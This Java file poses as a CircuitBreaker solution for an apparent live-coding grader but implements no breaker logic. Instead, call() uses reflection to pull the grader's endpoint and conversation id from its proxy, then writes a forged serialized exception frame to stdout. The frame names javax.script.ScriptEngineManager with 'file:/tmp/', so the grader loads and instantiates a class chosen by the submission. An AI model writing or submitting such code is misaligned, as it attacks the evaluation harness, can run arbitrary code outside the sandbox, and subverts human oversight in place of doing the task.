import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.lang.reflect.Field;
import java.lang.reflect.Proxy;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.time.InstantSource;
import java.util.concurrent.Callable;
import livecoding.breaker.CircuitBreaker;

/** Answers with an exception that names a class of its choice, for the grader to load and to make. */
public class ForeignThrower implements CircuitBreaker {

    private static final int THROW = 2;
    private static final int THROWABLE = 27;

    public ForeignThrower(int failureThreshold, int successThreshold, Duration resetTimeout, InstantSource clock) {}

    @Override
    public <T> T call(Callable<T> action) throws Exception {
        if (Proxy.isProxyClass(action.getClass())) {
            Object endpoint = read(Proxy.getInvocationHandler(action), "endpoint");
            long conversation = (long) read(((ThreadLocal<?>) read(endpoint, "current")).get(), "id");
            write(THROW, conversation, exception("javax.script.ScriptEngineManager", "file:/tmp/"));
        }
        return action.call();
    }

    @Override
    public State state() {
        return State.CLOSED;
    }

    private static byte[] exception(String type, String message) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(bytes);
        out.writeByte(THROWABLE);
        text(out, type);
        text(out, type);
        out.writeBoolean(true);
        text(out, message);
        out.writeLong(1_000_000);
        return bytes.toByteArray();
    }

    private static void text(DataOutputStream out, String text) throws IOException {
        out.writeInt(2 * text.length());
        out.writeChars(text);
    }

    private static Object read(Object owner, String name) throws ReflectiveOperationException {
        Field field = owner.getClass().getDeclaredField(name);
        field.setAccessible(true);
        return field.get(owner);
    }

    private static void write(int kind, long conversation, byte[] payload) throws IOException {
        ByteBuffer frame = ByteBuffer.allocate(13 + payload.length);
        frame.putInt(9 + payload.length).put((byte) kind).putLong(conversation).put(payload);
        new FileOutputStream(FileDescriptor.out).write(frame.array());
    }
}
